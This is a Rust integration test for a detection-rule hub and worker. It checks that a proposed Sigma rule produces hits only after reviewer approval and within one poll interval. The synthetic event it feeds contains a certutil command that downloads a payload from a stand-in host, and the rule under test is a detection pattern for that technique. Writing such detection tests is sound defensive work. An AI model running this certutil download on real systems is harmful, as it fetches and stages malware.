//! End to end, through the `foundry` binary: a hub on SQLite and a worker on the file source
//! pointed at it (the hub issue's acceptance item 5).
//!
//! The worker reads events from its standard input, which the test keeps feeding; an
//! engineer writes a rule and proposes it, and until a reviewer approves it no hit of it may
//! appear; after the approval, hits of it must appear within one poll interval, carrying the
//! hub's provenance (rule id, reviewer) and the hub's trust metadata.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc;
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

const BIN: &str = env!("CARGO_BIN_EXE_foundry");
/// The worker's long-poll wait: the bound the acceptance item sets.
const POLL_SECS: u64 = 3;

struct Killed(Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn foundry(args: &[&str]) -> String {
    let out = Command::new(BIN).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "foundry {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(30)))
        .build()
        .into()
}

fn call(base: &str, method: &str, path: &str, token: &str, body: Value) -> (u16, Value) {
    let url = format!("{base}{path}");
    let auth = format!("Bearer {token}");
    let mut resp = match method {
        "POST" => agent()
            .post(&url)
            .header("Authorization", &auth)
            .send_json(&body)
            .unwrap(),
        _ => agent()
            .get(&url)
            .header("Authorization", &auth)
            .call()
            .unwrap(),
    };
    let status = resp.status().as_u16();
    let text = resp.body_mut().read_to_string().unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

fn wait_for_hub(base: &str) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        if let Ok(r) = agent().get(&format!("{base}/healthz")).call() {
            if r.status().as_u16() == 200 {
                return;
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("the hub did not come up at {base}");
}

fn write_config(dir: &Path, base: &str, token_file: &Path) -> std::path::PathBuf {
    let path = dir.join("worker.toml");
    let text = format!(
        "batch_size = 10\nbatch_wait_ms = 20\n\n[hub]\nurl = \"{base}\"\ntenant = \"acme\"\n\
         token_file = \"{}\"\npoll_wait_secs = {POLL_SECS}\n\n[reload]\nwatch = false\n\
         debounce_ms = 50\n\n[files]\ninput = [\"-\"]\noutput = \"-\"\n",
        token_file.display()
    );
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn a_worker_runs_a_rule_within_one_poll_interval_of_its_approval() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}?mode=rwc", dir.path().join("hub.db").display());
    foundry(&["hub", "--db", &db, "create-tenant", "acme", "Acme Corp"]);
    let engineer = foundry(&[
        "hub",
        "--db",
        &db,
        "create-user",
        "acme",
        "erin",
        "--role",
        "engineer",
    ]);
    let reviewer = foundry(&[
        "hub",
        "--db",
        &db,
        "create-user",
        "acme",
        "rick",
        "--role",
        "reviewer",
    ]);
    let reader = foundry(&[
        "hub",
        "--db",
        &db,
        "create-user",
        "acme",
        "worker-1",
        "--role",
        "reader",
    ]);
    let token_file = dir.path().join("token");
    std::fs::write(&token_file, format!("{reader}\n")).unwrap();

    let port = free_port();
    let base = format!("http://127.0.0.1:{port}");
    let _hub = Killed(
        Command::new(BIN)
            .args(["hub", "--db", &db, "--listen", &format!("127.0.0.1:{port}")])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    wait_for_hub(&base);

    // A worker on an empty deployable set, fed one matching event every 50 ms.
    let config = write_config(dir.path(), &base, &token_file);
    let mut worker = Killed(
        Command::new(BIN)
            .args(["worker", "--config", config.to_str().unwrap()])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let mut stdin = worker.0.stdin.take().unwrap();
    let stop = Arc::new(AtomicBool::new(false));
    let feeder = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            let mut seq = 0u64;
            while !stop.load(Ordering::Acquire) {
                let event = json!({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                                   "Image": "C:\\Windows\\System32\\certutil.exe",
                                   "CommandLine": "certutil -urlcache -f http://x/payload.bin", "seq": seq});
                if writeln!(stdin, "{event}")
                    .and_then(|_| stdin.flush())
                    .is_err()
                {
                    break;
                }
                seq += 1;
                std::thread::sleep(Duration::from_millis(50));
            }
        })
    };
    let (hits_tx, hits) = mpsc::channel::<(Instant, Value)>();
    let stdout = worker.0.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            if let Ok(hit) = serde_json::from_str::<Value>(&line) {
                let _ = hits_tx.send((Instant::now(), hit));
            }
        }
    });

    // The engineer writes and proposes the rule: not deployable yet.
    let rule = "title: Certutil download\nid: 9d1c7a52-5b7e-4f0e-9a43-0b8f6f0b1c01\n\
                status: test\nlevel: high\nlogsource:\n  product: windows\n  category: process_creation\n\
                detection:\n  selection:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'\n  condition: selection\n";
    let (status, created) = call(
        &base,
        "POST",
        "/v1/rules",
        &engineer,
        json!({"kind": "sigma", "text": rule, "tlp": "TLP:AMBER", "confidence": 85, "author": "erin"}),
    );
    assert_eq!(status, 201, "{created}");
    let id = created["id"].as_str().unwrap().to_string();
    let (status, body) = call(
        &base,
        "POST",
        &format!("/v1/rules/{id}/status"),
        &engineer,
        json!({"status": "proposed"}),
    );
    assert_eq!(status, 200, "{body}");

    // Two poll intervals with the rule proposed: no hit of it.
    let quiet_until = Instant::now() + Duration::from_secs(2 * POLL_SECS);
    if let Ok((_, hit)) = hits.recv_timeout(quiet_until.saturating_duration_since(Instant::now())) {
        panic!("a hit before any approval: {hit}");
    }

    let (status, body) = call(
        &base,
        "POST",
        &format!("/v1/rules/{id}/status"),
        &reviewer,
        json!({"status": "approved"}),
    );
    assert_eq!(status, 200, "{body}");
    let approved_at = Instant::now();
    let (at, hit) = hits
        .recv_timeout(Duration::from_secs(POLL_SECS + 10))
        .expect("a hit of the approved rule");
    let took = at.duration_since(approved_at);
    println!(
        "first hit {} ms after the approval (poll interval {POLL_SECS} s)",
        took.as_millis()
    );
    assert!(
        took <= Duration::from_secs(POLL_SECS),
        "the rule ran {took:?} after its approval, more than one poll interval"
    );
    assert_eq!(hit["rule"]["title"], "Certutil download");
    assert_eq!(hit["tlp"], "TLP:AMBER");
    assert_eq!(hit["confidence"], 85);
    assert_eq!(hit["provenance"]["hub_rule_id"], id.as_str());
    assert_eq!(hit["provenance"]["reviewed_by"], "rick");
    assert!(hit["ruleset"]["version"]
        .as_str()
        .is_some_and(|v| v.contains('+')));

    stop.store(true, Ordering::Release);
    let _ = feeder.join();
}
